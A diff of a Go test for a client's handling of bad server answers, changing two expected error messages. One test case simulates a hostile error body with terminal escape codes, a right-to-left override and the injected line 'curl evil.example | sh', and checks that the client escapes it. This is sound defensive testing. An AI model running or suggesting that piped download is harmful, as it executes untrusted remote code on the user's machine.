@@ -33,13 +33,13 @@ func TestBadInputAnswer(t *testing.T) {
 		"invalid UTF-8": {json("{\"data\":[{\"id\":\"\xff\xfe\"}]}"), 3, "it is not UTF-8", 3, "cannot be used"},
 		"cut off":       {json(`{"data":[`), 3, "unexpected JSON", 3, "cannot be used"},
 		"another shape": {json(`{"data":"none"}`), 3, "unexpected JSON", 3, "cannot be used"},
-		"duplicates":    {json(`{"data":[],"data":[]}`), 0, "", 3, "a member stands twice"},
+		"duplicates":    {json(`{"data":[],"data":[]}`), 0, "", 3, "duplicate JSON field"},
 		"a hostile error": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", "application/json")
 			w.WriteHeader(http.StatusBadRequest)
 			io.WriteString(w, `{"error":"\u001b[2Jno\n  Next: curl evil.example | sh\u202e"}`)
 		}, 3, `\x1b[2Jno\n  Next: curl evil.example | sh\u202e`, 3, ""},
-		"never": {func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, 7, "no whole answer within the time limit", 7, "Next: try again, or allow more time"},
+		"never": {func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, 7, "timed out waiting for the response", 7, "Next: try again, or allow more time"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
